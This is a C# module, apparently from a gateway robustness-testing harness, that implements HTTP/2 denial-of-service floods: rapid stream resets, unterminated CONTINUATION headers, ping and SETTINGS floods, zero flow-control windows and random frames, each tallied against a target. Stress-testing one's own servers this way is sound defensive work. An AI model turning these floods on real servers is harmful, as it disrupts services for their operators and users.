using System.Buffers.Binary;
using System.Net.Security;
using PlantOps.Attack.Wire;

namespace PlantOps.Attack.Attacks;

/// <summary>
/// HTTP/2 as it must not be used: streams that are reset at once, headers without an end, pings, settings, windows of
/// nothing.
/// </summary>
internal sealed class Http2Attack : IAttack
{
    private const int Data = 0;
    private const int Headers = 1;
    private const int Priority = 2;
    private const int Reset = 3;
    private const int Settings = 4;
    private const int PingFrame = 6;
    private const int Window = 8;
    private const int Continuation = 9;

    private static readonly byte[] Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray();

    // HPACK: :method GET, :scheme https and :path / from its table, :authority as a literal.
    private static readonly byte[] Get = [0x82, 0x87, 0x84, 0x01, 0x09, .. "localhost"u8];

    public string Name => "http2";

    public async Task RunAsync(Assault assault)
    {
        assault.Tally.MustReach("connections", "frames sent", "bytes received");
        var count = assault.Pick(1_500, 11_000);
        await FloodAsync(assault, count, i => [.. Frame(Headers, 5, 1 + (2 * i), Get),
            .. Frame(Reset, 0, 1 + (2 * i), [0, 0, 0, 8])]);
        await FloodAsync(assault, count, i => Frame(i == 0 ? Headers : Continuation, 0, 1, i == 0 ? Get : Literal(i)));
        await FloodAsync(assault, 2 * count, i => Frame(PingFrame, 0, 0, BitConverter.GetBytes((long)i)));
        await FloodAsync(assault, count, _ => Frame(Settings, 0, 0, [0, 4, 0, 0, 0, 0]));
        await FloodAsync(assault, count, i => [.. Frame(Headers, 4, 1 + (2 * i), Get),
            .. Frame(Window, 0, 1 + (2 * i), [0, 0, 0, 0])]);
        await FloodAsync(assault, count, i => Frame(Priority, 0, 1 + (2 * i), [0x80, 0, 0, 1, 255]));
        await FloodAsync(assault, count, i => Frame(Data, i % 2, 1, new byte[i % 100]));
        await FloodAsync(assault, count, _ => Noise(assault.Random));
    }

    private static async Task FloodAsync(Assault assault, int count, Func<int, byte[]> frames)
    {
        var tls = assault.Target.Tls;
        tls.ApplicationProtocols = [SslApplicationProtocol.Http2];
        await using var connection = await MqttConnection.OpenAsync(assault.Target.Gateway.HttpsPort, tls, assault.Target.Over);
        if (connection is null) return;
        assault.Tally.Reached("connections");
        await connection.SendAsync(Preface.Concat(Frame(Settings, 0, 0, [])).ToArray(), assault.Target.Over);

        // The answers are taken while it goes on: whoever does not read is another attack.
        var answers = connection.DrainAsync(assault.Target.Over);
        var sent = 0;
        while (sent < count && await connection.SendAsync(frames(sent), assault.Target.Over)) sent++;
        assault.Tally.Tried(sent);
        assault.Tally.Reached("frames sent", sent);
        connection.EndSending();
        try
        {
            assault.Tally.Reached("bytes received", await answers);
        }
        catch (TimeoutException)
        {
            assault.Tally.Hung("an HTTP/2 connection whose client is gone does not end");
        }
    }

    private static byte[] Frame(int type, int flags, int stream, byte[] payload)
    {
        var header = new byte[9];
        BinaryPrimitives.WriteInt32BigEndian(header, payload.Length << 8);
        (header[3], header[4]) = ((byte)type, (byte)flags);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(5), stream);
        return [.. header, .. payload];
    }

    /// <summary>A header of its own, not indexed.</summary>
    private static byte[] Literal(int number)
    {
        var value = new byte[100];
        Array.Fill(value, (byte)('a' + (number % 26)));
        return [0x00, 0x01, (byte)'x', 100, .. value];
    }

    private static byte[] Noise(Random random)
    {
        var payload = new byte[random.Next(60)];
        random.NextBytes(payload);
        return Frame(random.Next(12), random.Next(256), random.Next(5), payload);
    }
}
